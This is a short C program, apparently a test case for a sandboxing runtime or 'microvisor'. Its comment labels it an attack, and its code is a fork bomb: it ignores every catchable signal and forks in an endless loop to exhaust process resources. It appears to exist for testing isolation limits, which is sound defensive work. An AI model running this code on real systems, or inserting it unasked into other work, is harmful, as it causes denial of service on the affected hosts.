/* Attack: every process forks for ever (its children too), ignoring every signal it
 * may, and tries again on EAGAIN: a tree of as many cages as the runtime lets it have,
 * each calling into the microvisor as fast as it can. Built with -pthread (a shared
 * memory, which a stopped cage's waiters are looked after in). */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	for (int sig = 1; sig < 32; sig++)
		signal(sig, SIG_IGN);
	for (;;)
		fork();
}
